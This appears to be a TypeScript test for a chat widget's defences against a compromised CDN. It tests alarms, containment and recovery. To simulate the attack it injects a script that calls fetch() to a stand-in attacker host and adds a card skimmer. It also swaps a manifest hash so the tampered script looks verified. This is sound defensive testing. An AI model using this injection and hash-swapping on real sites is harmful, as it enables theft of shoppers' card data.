/**
 * Somebody has the CDN in front of Candor and alters what belongs to the widget: the frame's script, then its document,
 * then the manifest. Nothing of it may run; who notices is the visitors' loaders. Each on a page of its own, because a
 * page that a person has opened again is not closed a second time by the playbook for the same alarm.
 */
import { setTimeout as sleep } from 'node:timers/promises'
import type { AlarmKind } from '@candor/protocol/integrity-api.ts'
import { integrityOf } from '@candor/release/manifest.ts'
import { cardStolen, skimmer, type AttackedShop } from './shop/attacked-shop.ts'
import { until, withShopScene, type ShopScene } from './shop/shop-scene.ts'
import type { Attack } from './shop/tls-end.ts'

/** A frame that is silent in ten minutes five times, in three networks, is an alarm; one fault is a fault. */
const visitorsSilent = 5
/** The loader waits ten seconds for its frame; a busy machine takes longer. */
const alarmMsMax = 40_000
const containedMsMax = 10_000
const chatMsMax = 30_000
/** What runs tells the attacker at once. */
const runMs = 1_500

/** Scripts and documents of the shop's language are those that its visitors load. */
const scriptName = 'en.js'
const scriptPath = /^\/w\/[\w-]{43}\/en\.js/
const documentPath = /^\/w\/[\w-]{43}\/en\.html/

interface Alteration {
  what: string
  page: string
  alarm: AlarmKind
  visitors: number
  attack: Attack
  /** What the attacker gets of the old page, on which nothing is checked. */
  control: { says: string; tag: string; succeeds(shop: AttackedShop): boolean }
}

/** @returns whether nothing ran, and each was found, contained and undone. */
export function alteredWidget(print: (line: string) => void): Promise<boolean> {
  return withShopScene(print, async (scene) => {
    const alterations = await alterationsOf(scene)
    await scene.learn(alterations.map(({ page }) => page))
    await scene.savePlaybook({
      rules: [
        { kind: 'frame-silent', scope: 'template', sharePercentMin: 0 },
        { kind: 'release-unverified', scope: 'template', sharePercentMin: 0 },
      ],
      webhook: null,
    })
    let allHold = true
    for (const each of alterations) allHold = (await enact(scene, each)) && allHold
    return allHold
  })
}

async function alterationsOf({ shop, cdn, direct, server }: ShopScene): Promise<Alteration[]> {
  const release = `/w/${server.widget.release!}`
  const answer = await fetch(`${direct}${release}/${scriptName}`)
  const script = Buffer.from(await answer.arrayBuffer())
  const strike = `fetch(${JSON.stringify(`${shop.attacker}/?ran`)},{mode:'no-cors'}).catch(()=>0)${skimmer(shop.attacker)}`
  const struck = Buffer.concat([Buffer.from(`${strike}\n`), script])
  const scriptControl = {
    says: 'as a plain script of the page it reads the card',
    tag: `<script src="${cdn.url}${release}/${scriptName}"></script>`,
    succeeds: cardStolen,
  }
  const alterScript: Attack = ({ path }, real) => (scriptPath.test(path) ? { ...real, body: struck } : null)
  return [
    {
      what: 'the script of the frame is altered at the CDN',
      page: '/checkout',
      alarm: 'frame-silent',
      visitors: visitorsSilent,
      attack: alterScript,
      control: scriptControl,
    },
    {
      what: 'the document of the frame is another, with a script of the attacker’s and none of ours',
      page: '/product',
      alarm: 'frame-silent',
      visitors: visitorsSilent,
      attack: ({ path }, real) =>
        documentPath.test(path)
          ? {
              status: 200,
              // All that could hold it back goes; what a browser wants to see before it shows it stays.
              headers: { 'content-type': real.headers['content-type'], 'allow-csp-from': '*' },
              body: Buffer.from(`<!doctype html><script>${strike}</script>`),
            }
          : null,
      control: {
        says: 'in a plain frame its script runs',
        tag: `<iframe src="${cdn.url}${release}/en.html"></iframe>`,
        succeeds: ({ stolen }) => stolen.some(({ url }) => url === '/?ran'),
      },
    },
    {
      what: 'the manifest names the hash of the altered script',
      page: '/',
      alarm: 'release-unverified',
      visitors: 1,
      attack: (asked, real) => {
        if (!asked.path.startsWith('/w/release.json') || real.status !== 200) return alterScript(asked, real)
        const digests = [integrityOf(script), integrityOf(struck)] as const
        const text = real.body.toString('utf8').replaceAll(...digests)
        return { ...real, body: Buffer.from(text) }
      },
      control: scriptControl,
    },
  ]
}

async function enact(scene: ShopScene, alteration: Alteration): Promise<boolean> {
  const { shop, cdn, timeline } = scene
  const { what, page, control } = alteration
  const results: boolean[] = []
  timeline.begin(what)
  let altered = 0
  cdn.alter((asked, real) => {
    const given = alteration.attack(asked, real)
    if (given !== null) altered++
    return given
  })

  shop.oldTag = control.tag
  const old = await scene.visit(`${shop.oldOrigin}/checkout`)
  await old.typeCard()
  const controlHolds = await until(
    () => control.succeeds(shop),
    (succeeds) => succeeds,
    runMs,
  )
  await old.close()
  results.push(timeline.check(controlHolds === true, `control: ${control.says}`))
  shop.stolen.length = 0
  altered = 0

  const visitors = await Promise.all(
    Array.from({ length: alteration.visitors }, async () => {
      const visitor = await scene.visit(page)
      await visitor.openWidget()
      return visitor
    }),
  )
  timeline.mark(`protected page ${page}: ${visitors.length} visitors have opened the chat`)
  const alarm = await scene.alarmOf(alteration.alarm, alarmMsMax)
  results.push(
    alarm === null
      ? timeline.check(false, `no alarm within ${alarmMsMax / 1_000} s`)
      : timeline.check(
          alarm.page === shop.origin + page,
          `alarm ${alarm.kind}, raised after ${((Date.parse(alarm.raisedAt) - timeline.zero()) / 1_000).toFixed(1)} s`,
        ),
  )
  const contained = await until(
    async () => (await scene.containments()).find((each) => each.alarm === alarm?.id) ?? null,
    (found) => found !== null,
    containedMsMax,
  )
  results.push(
    timeline.check(
      contained !== null && !(await scene.opens(page)),
      contained === null
        ? 'nothing was contained'
        : `contained, entry ${contained.entry}: no widget opens on ${page}`,
    ),
  )
  if (page === '/checkout') for (const visitor of visitors) await visitor.typeCard()
  await sleep(runMs)
  for (const visitor of visitors) await visitor.close()
  results.push(
    timeline.check(
      altered >= visitors.length && shop.stolen.length === 0,
      `${altered} altered answers went to ${visitors.length} protected pages${page === '/checkout' ? ', each with a card typed into it' : ''}; requests to the attacker: ${shop.stolen.length}`,
    ),
  )

  cdn.alter(null)
  if (contained !== null) await scene.undo(contained.id)
  const after = await scene.visit(page)
  await after.openWidget()
  results.push(
    timeline.check(await after.hasChat(chatMsMax), 'the CDN is whole again and it is undone: the chat opens'),
  )
  await after.close()
  return results.every(Boolean)
}
